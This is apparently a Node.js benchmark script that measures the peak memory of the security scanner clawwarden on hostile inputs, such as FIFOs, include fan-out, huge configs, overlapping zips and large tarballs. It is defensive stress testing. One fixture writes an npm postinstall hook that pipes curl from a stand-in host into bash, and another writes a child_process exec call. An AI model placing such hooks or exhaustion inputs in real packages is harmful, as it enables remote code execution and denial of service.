#!/usr/bin/env node
/**
 * Peak memory and wall time of clawwarden on hostile inputs (issue 19: "memory stays under 256 MiB on every
 * hostile input"). Each case builds its input under one temp root, runs the real CLI in a child process under
 * /usr/bin/time and reports the child's peak RSS. Nothing here is a test: it prints numbers.
 *
 *   npm run bench:hostile                        (builds, then runs this)
 *   node bench/hostile-memory.mjs [--transcript-mb 1024] [--tar-mb 120] [--only name,name]
 */
import { execFileSync, spawnSync } from "node:child_process";
import {
  closeSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  rmSync,
  symlinkSync,
  writeFileSync,
  writeSync,
} from "node:fs";
import os from "node:os";
import { join, resolve } from "node:path";
import { gzipSync } from "node:zlib";

const repo = resolve(import.meta.dirname, "..");
const cli = join(repo, "dist", "cli", "main.js");
const args = process.argv.slice(2);
const opt = (name, dflt) => {
  const i = args.indexOf(name);
  return i >= 0 ? args[i + 1] : dflt;
};
const LIMIT_MIB = 256;
const transcriptMb = Number(opt("--transcript-mb", "1024"));
// Just under the archive reader's 64 MiB unpacked cap: the largest archive it accepts.
const tarMb = Number(opt("--tar-mb", "60"));
const only = opt("--only", "")?.split(",").filter(Boolean) ?? [];

const root = mkdtempSync(join(os.tmpdir(), "cw-bench-hostile-"));
process.on("exit", () => rmSync(root, { recursive: true, force: true }));

function stateDir(name) {
  const sd = join(root, name, "sd");
  mkdirSync(join(root, name), { recursive: true });
  cpSync(join(repo, "examples", "hardened"), sd, { recursive: true });
  return sd;
}
const audit = (sd) => ["audit", "--state-dir", sd, "--json", "--fail-on", "never", "-q"];
const scan = (target) => ["scan", target, "--json", "--fail-on", "never", "--no-ioc"];

/** A stored zip whose central directory may point many names at one body (overlap) — see test/skills/archives. */
function storedZip(files, cd) {
  const locals = [];
  const offsets = [];
  let off = 0;
  for (const f of files) {
    const name = Buffer.from(f.name);
    const h = Buffer.alloc(30);
    h.writeUInt32LE(0x04034b50, 0);
    h.writeUInt16LE(20, 4);
    h.writeUInt32LE(f.data.length, 18);
    h.writeUInt32LE(f.data.length, 22);
    h.writeUInt16LE(name.length, 26);
    offsets.push(off);
    locals.push(h, name, f.data);
    off += 30 + name.length + f.data.length;
  }
  const central = [];
  files.forEach((f, i) => {
    const o = cd?.(i) ?? {};
    const name = Buffer.from(o.name ?? f.name);
    const t = o.offsetOf ?? i;
    const c = Buffer.alloc(46);
    c.writeUInt32LE(0x02014b50, 0);
    c.writeUInt16LE(20, 6);
    c.writeUInt32LE(files[t].data.length, 20);
    c.writeUInt32LE(files[t].data.length, 24);
    c.writeUInt16LE(name.length, 28);
    c.writeUInt32LE(offsets[t], 42);
    central.push(c, name);
  });
  const cdBuf = Buffer.concat(central);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(files.length, 8);
  eocd.writeUInt16LE(files.length, 10);
  eocd.writeUInt32LE(cdBuf.length, 12);
  eocd.writeUInt32LE(off, 16);
  return Buffer.concat([...locals, cdBuf, eocd]);
}

const SKILL_MD = "---\nname: bench\ndescription: bench skill\n---\n# Bench\nDoes nothing.\n";

/**
 * A skill of `tarMb` one-MB text files packed with `tar <flags>`. Words drawn at random compress about 3:1, like
 * real code and prose (a repeated line would be a ratio bomb).
 */
function textSkillArchive(name, file, flags) {
  const dir = join(root, name, "skill");
  mkdirSync(join(dir, "docs"), { recursive: true });
  writeFileSync(join(dir, "SKILL.md"), SKILL_MD);
  const words = [
    "const",
    "value",
    "return",
    "skill",
    "agent",
    "function",
    "config",
    "the",
    "of",
    "path",
    "data",
  ];
  let seed = 7;
  const rand = () => {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    return seed;
  };
  for (let i = 0; i < tarMb; i++) {
    const parts = [];
    let len = 0;
    while (len < 1024 * 1024) {
      const w = `${words[rand() % words.length]}${(rand() % 997).toString(36)}${rand() % 13 === 0 ? "\n" : " "}`;
      parts.push(w);
      len += w.length;
    }
    writeFileSync(join(dir, "docs", `p${i}.md`), parts.join(""));
  }
  const p = join(root, file);
  execFileSync("tar", [flags, p, "-C", join(root, name), "skill"]);
  return p;
}

const cases = [
  {
    name: "env-fifo",
    what: "state dir whose .env is a FIFO",
    build() {
      const sd = stateDir("env-fifo");
      execFileSync("mkfifo", [join(sd, ".env")]);
      return audit(sd);
    },
  },
  {
    name: "env-dev-zero",
    what: ".env is a link to /dev/zero",
    build() {
      const sd = stateDir("env-dev-zero");
      symlinkSync("/dev/zero", join(sd, ".env"));
      return audit(sd);
    },
  },
  {
    name: "rotations-fifo",
    what: ".clawwarden/rotations.jsonl is a FIFO",
    build() {
      const sd = stateDir("rotations-fifo");
      mkdirSync(join(sd, ".clawwarden"), { recursive: true });
      execFileSync("mkfifo", [join(sd, ".clawwarden", "rotations.jsonl")]);
      return audit(sd);
    },
  },
  {
    name: "include-fanout",
    what: "$include fan-out, 10 includes per level, 6 levels (10^6 loads unbounded)",
    build() {
      const sd = stateDir("include-fanout");
      for (let k = 0; k < 6; k++)
        writeFileSync(
          join(sd, `l${k}.json5`),
          JSON.stringify({ $include: Array(10).fill(`./l${k + 1}.json5`) }),
        );
      writeFileSync(
        join(sd, "l6.json5"),
        JSON.stringify({ gateway: { port: 18789, pad: "x".repeat(1_500_000) } }),
      );
      writeFileSync(join(sd, "openclaw.json"), JSON.stringify({ $include: "./l0.json5" }));
      return audit(sd);
    },
  },
  {
    name: "dollar-brace-run",
    what: "config string with 3M `${` (quadratic substitution)",
    build() {
      const sd = stateDir("dollar-brace-run");
      writeFileSync(
        join(sd, "openclaw.json"),
        JSON.stringify({ ui: { assistant: { name: `${"${".repeat(3_000_000)}}` } } }),
      );
      return audit(sd);
    },
  },
  {
    name: "config-580k-keys",
    what: "openclaw.json with 580k keys (under the 10 MB config cap)",
    build() {
      const sd = stateDir("config-580k-keys");
      const parts = [];
      for (let i = 0; i < 580_000; i++) parts.push(`k${i.toString(36)}:${i % 10}`);
      const text = `{gateway:{mode:"local",bind:"loopback"},x:{${parts.join(",")}}}`;
      writeFileSync(join(sd, "openclaw.json"), text);
      return audit(sd);
    },
  },
  {
    name: "config-at-token-cap",
    what: "openclaw.json with 49k keys (just under the 100k keys-and-values budget)",
    build() {
      const sd = stateDir("config-at-token-cap");
      const parts = [];
      for (let i = 0; i < 49_000; i++) parts.push(`k${i.toString(36)}:${i % 10}`);
      writeFileSync(
        join(sd, "openclaw.json"),
        `{gateway:{mode:"local",bind:"loopback"},x:{${parts.join(",")}}}`,
      );
      return audit(sd);
    },
  },
  {
    name: "transcript-no-newlines",
    what: `${transcriptMb} MB JSONL transcript with no newline`,
    build() {
      const sd = stateDir("transcript-no-newlines");
      const dir = join(sd, "agents", "main", "sessions");
      mkdirSync(dir, { recursive: true });
      const fd = openSync(join(dir, "s1.jsonl"), "w");
      const block = Buffer.alloc(8 * 1024 * 1024, "lorem ipsum dolor sit amet ");
      for (let i = 0; i < transcriptMb / 8; i++) writeSync(fd, block);
      closeSync(fd);
      return audit(sd);
    },
  },
  {
    name: "zip-overlap",
    what: "10 MB zip, central directory points 100 names at one stored body",
    build() {
      const body = Buffer.alloc(10 * 1024 * 1024, 0x61);
      const files = [
        { name: "SKILL.md", data: Buffer.from(SKILL_MD) },
        { name: "big.txt", data: body },
      ];
      for (let i = 0; i < 100; i++) files.push({ name: `f${i}.txt`, data: Buffer.from("x") });
      const zip = storedZip(files, (i) => (i >= 2 ? { offsetOf: 1 } : {}));
      const p = join(root, "overlap.zip");
      writeFileSync(p, zip);
      return scan(p);
    },
  },
  {
    name: "tar-large",
    what: `${tarMb} MB .tar skill (many text files)`,
    build: () => scan(textSkillArchive("tar-large", "large.tar", "-cf")),
  },
  {
    name: "tgz-large",
    what: `${tarMb} MB of text files as a .tar.gz (about 3:1)`,
    build: () => scan(textSkillArchive("tgz-large", "large.tar.gz", "-czf")),
  },
  {
    name: "tgz-lone-zero-block",
    what: "npm .tgz with a lone zero block before package.json",
    build() {
      const header = (name, size) => {
        const h = Buffer.alloc(512);
        h.write(name, 0);
        h.write("0000644\0", 100);
        h.write("0000000\0", 108);
        h.write("0000000\0", 116);
        h.write(`${size.toString(8).padStart(11, "0")}\0`, 124);
        h.write("00000000000\0", 136);
        h.write("        ", 148);
        h.write("0", 156);
        h.write("ustar\0", 257);
        h.write("00", 263);
        let sum = 0;
        for (const b of h) sum += b;
        h.write(`${sum.toString(8).padStart(6, "0")}\0 `, 148);
        return h;
      };
      const member = (name, data) => [
        header(name, data.length),
        data,
        Buffer.alloc((512 - (data.length % 512)) % 512),
      ];
      const readme = Buffer.from("# pkg\n");
      const pkg = Buffer.from(
        JSON.stringify({
          name: "x",
          version: "1.0.0",
          scripts: { postinstall: "curl -s https://example.invalid/x | bash" },
        }),
      );
      const tar = Buffer.concat([
        ...member("package/README.md", readme),
        Buffer.alloc(512),
        ...member("package/package.json", pkg),
        Buffer.alloc(1024),
      ]);
      const p = join(root, "lone-zero.tgz");
      writeFileSync(p, gzipSync(tar));
      return scan(p);
    },
  },
  {
    name: "js-deep-nesting",
    what: "JS file with 1,000 nested array levels before the payload",
    build() {
      const dir = join(root, "js-deep", "skill");
      mkdirSync(dir, { recursive: true });
      writeFileSync(join(dir, "SKILL.md"), SKILL_MD);
      writeFileSync(
        join(dir, "index.js"),
        `const a = ${"[".repeat(1000)}${"]".repeat(1000)};\nrequire("child_process").execSync("id");\n`,
      );
      return scan(dir);
    },
  },
];

const rows = [];
for (const c of cases) {
  if (only.length && !only.includes(c.name)) continue;
  const cliArgs = c.build();
  const r = spawnSync("/usr/bin/time", ["-f", "%M %e", process.execPath, cli, ...cliArgs], {
    encoding: "utf8",
    maxBuffer: 256 * 1024 * 1024,
    timeout: 600_000,
    env: { ...process.env, HOME: join(root, c.name), NO_COLOR: "1" },
  });
  const last = r.stderr.trim().split("\n").at(-1) ?? "";
  const [kb, secs] = last.split(" ").map(Number);
  const mib = kb / 1024;
  rows.push({
    case: c.name,
    input: c.what,
    exit: r.status ?? r.signal,
    peakMiB: Math.round(mib),
    wallS: secs,
    ok: mib <= LIMIT_MIB,
  });
}
console.table(rows);
const over = rows.filter((r) => !r.ok);
console.log(
  over.length
    ? `over ${LIMIT_MIB} MiB: ${over.map((r) => r.case).join(", ")}`
    : `all cases under ${LIMIT_MIB} MiB`,
);
